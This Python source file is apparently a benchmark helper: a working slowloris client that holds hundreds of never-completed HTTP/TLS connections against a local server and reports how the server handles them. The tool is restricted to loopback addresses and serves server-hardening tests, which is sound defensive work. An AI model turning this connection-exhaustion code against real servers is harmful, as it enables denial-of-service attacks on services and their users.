#!/usr/bin/env python3
"""A slowloris client for run-load-bench.sh: holds many connections that never finish their
request headers, and reports what the server did about them.

  slowloris.py --port PORT [--host 127.0.0.1] [--tls --ca-file CERT] [--connections 500]
               [--seconds 30] [--interval 3] [--path /] [--ready-file FILE] [--no-reopen]

Each connection (TLS when --tls; the handshake is completed first) sends a request line and a
Host header, then one more header line every --interval seconds, forever: the blank line that
ends the headers never comes. When the server closes a connection the close is recorded with
the time since the connection was opened, and a new connection takes its place unless
--no-reopen. A server may also answer (e.g. 400 or 408) without closing: the answer's status
line and time are recorded, and the connection goes on trickling as long as the server lets it
(answered_left_open counts those still open at the end). After --seconds (or on SIGTERM) the
script closes everything and prints one JSON object on stdout. --ready-file is written once the
first --connections connections are open (or the opening phase gave up: three connections or
handshakes in a row failed within --connect-timeout, or --open-seconds passed), so a caller can
start its measurement then.

Only for servers on this machine: the host must be a loopback address.
"""

import argparse
import ipaddress
import json
import random
import resource
import selectors
import signal
import socket
import ssl
import statistics
import sys
import time


class Slow:
    """One slow connection: its socket, when it opened and when it should trickle next."""

    def __init__(self, sock, opened, interval, wave):
        self.sock = sock
        self.opened = opened
        self.next_send = opened + random.uniform(0.5, 1.0) * interval
        self.sent_lines = 0
        self.wave = wave
        self.answer = b""
        self.answered_at = None


def parse_args():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true", help="speak TLS (the handshake is completed)")
    p.add_argument("--ca-file", help="certificate to trust for --tls (default: do not verify)")
    p.add_argument("--connections", type=int, default=500)
    p.add_argument("--seconds", type=float, default=30.0, help="how long to hold the attack")
    p.add_argument("--interval", type=float, default=3.0, help="seconds between header lines")
    p.add_argument("--path", default="/")
    p.add_argument("--ready-file")
    p.add_argument("--no-reopen", action="store_true", help="do not replace closed connections")
    p.add_argument("--connect-timeout", type=float, default=2.0,
                   help="seconds for a connection and its TLS handshake")
    p.add_argument("--open-seconds", type=float, default=30.0,
                   help="at most this long for opening the first wave")
    args = p.parse_args()
    if not ipaddress.ip_address(socket.gethostbyname(args.host)).is_loopback:
        p.error("--host must be a loopback address: this tool only attacks servers on this machine")
    return args


def tls_context(args):
    if not args.tls:
        return None
    ctx = ssl.create_default_context(cafile=args.ca_file)
    if not args.ca_file:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return ctx


def summary_seconds(values):
    if not values:
        return None
    values = sorted(values)
    return {"min": round(values[0], 2), "p50": round(statistics.median(values), 2),
            "max": round(values[-1], 2)}


def main():
    args = parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, args.connections + 64))
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    ctx = tls_context(args)
    sel = selectors.DefaultSelector()
    conns = {}  # fileno -> Slow
    stats = {"opened": 0, "connect_failures": 0, "handshake_failures": 0, "closed_by_server": 0,
             "answered": 0, "answered_left_open": 0, "first_wave_closed": 0,
             "lines_sent": 0}
    close_after = []  # seconds from open to the server's close, every wave
    first_wave_close_after = []
    answer_after = []  # seconds from open to the server's first bytes (e.g. a 400 or 408)
    answers = {}
    errors = {}
    start = time.monotonic()
    end = start + args.seconds
    stopping = []
    # SIGTERM ends the attack early, still with a report: the caller stops us when it is done.
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))

    def note_error(kind, e):
        key = f"{kind}: {type(e).__name__}"
        errors[key] = errors.get(key, 0) + 1

    def open_one(wave):
        t0 = time.monotonic()
        try:
            # Replacements must not stall the trickling of the others for long.
            timeout = args.connect_timeout if wave == 0 else min(1.0, args.connect_timeout)
            raw = socket.create_connection((args.host, args.port), timeout=timeout)
        except OSError as e:
            stats["connect_failures"] += 1
            note_error("connect", e)
            return False
        try:
            sock = ctx.wrap_socket(raw, server_hostname=args.host) if ctx else raw
            first = (f"GET {args.path}?slow={random.getrandbits(32)} HTTP/1.1\r\n"
                     f"Host: {args.host}:{args.port}\r\nUser-Agent: heirloom-bench-slowloris\r\n")
            sock.sendall(first.encode())
        except (OSError, ssl.SSLError) as e:
            stats["handshake_failures"] += 1
            note_error("handshake" if ctx else "send", e)
            raw.close()
            return False
        sock.setblocking(False)
        c = Slow(sock, t0, args.interval, wave)
        conns[sock.fileno()] = c
        sel.register(sock, selectors.EVENT_READ, c)
        stats["opened"] += 1
        return True

    def drop(c, by_server):
        now = time.monotonic()
        sel.unregister(c.sock)
        del conns[c.sock.fileno()]
        try:
            c.sock.close()
        except OSError:
            pass
        if c.answer:
            status = c.answer.split(b"\r\n", 1)[0].decode("latin-1", "replace")[:40]
            answers[status] = answers.get(status, 0) + 1
        if not by_server:
            stats["answered_left_open"] += 1 if c.answer else 0
            return
        stats["closed_by_server"] += 1
        close_after.append(now - c.opened)
        if c.wave == 0:
            stats["first_wave_closed"] += 1
            first_wave_close_after.append(now - c.opened)
        if c.answer:
            stats["answered"] += 1

    def service(timeout):
        """Notes what the server sent or closed, and sends the header lines that are due."""
        now = time.monotonic()
        for key, _ in sel.select(timeout=timeout):
            c = key.data
            try:
                data = c.sock.recv(4096)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                continue  # e.g. a TLS 1.3 session ticket: no application data
            except (OSError, ssl.SSLError):
                data = b""
            if data:
                if c.answered_at is None:
                    c.answered_at = time.monotonic()
                    answer_after.append(c.answered_at - c.opened)
                c.answer += data[:256]
                continue
            drop(c, by_server=True)
        now = time.monotonic()
        for c in [c for c in conns.values() if c.next_send <= now]:
            line = f"X-Slow-{c.sent_lines}: {random.getrandbits(24)}\r\n".encode()
            try:
                c.sock.send(line)
                c.sent_lines += 1
                stats["lines_sent"] += 1
                c.next_send = now + args.interval
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                c.next_send = now + 0.2
            except (OSError, ssl.SSLError):
                drop(c, by_server=True)

    # Opening phase: the first wave, as fast as the server lets us, trickling on the open ones
    # meanwhile. A server that stops accepting (or queues connections without handshaking them)
    # ends it after a few failures in a row.
    failures_in_row = 0
    open_until = start + min(args.seconds, args.open_seconds)
    while (len(conns) < args.connections and time.monotonic() < open_until and not stopping
           and failures_in_row < 3):
        failures_in_row = 0 if open_one(0) else failures_in_row + 1
        service(0)
    ready_at = time.monotonic()
    first_wave_open = peak = len(conns)
    retry_at = 0.0
    if args.ready_file:
        with open(args.ready_file, "w") as f:
            json.dump({"open": len(conns), "seconds_to_open": round(ready_at - start, 2)}, f)

    while True:
        now = time.monotonic()
        if now >= end or stopping:
            break
        due = min((c.next_send for c in conns.values()), default=now + 0.5)
        service(max(0.0, min(due, end, now + 0.5) - now))
        # Replace closed connections; after a failure, wait a second before trying again.
        if not args.no_reopen and time.monotonic() >= retry_at:
            while len(conns) < args.connections and not stopping and time.monotonic() < end:
                ok = open_one(1)
                service(0)
                if not ok:
                    retry_at = time.monotonic() + 1.0
                    break
        peak = max(peak, len(conns))

    held = len(conns)
    for c in list(conns.values()):
        drop(c, by_server=False)
    result = {
        "target": args.connections, "tls": bool(ctx), "interval_seconds": args.interval,
        "seconds": round(time.monotonic() - start, 2),
        "seconds_to_open": round(ready_at - start, 2), "first_wave_open": first_wave_open,
        "open_at_end": held, "peak_open": peak, **stats,
        "close_after_seconds": summary_seconds(close_after),
        "first_wave_close_after_seconds": summary_seconds(first_wave_close_after),
        "answer_after_seconds": summary_seconds(answer_after),
        "answers": answers, "errors": errors,
    }
    print(json.dumps(result, separators=(",", ":")), flush=True)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(130)
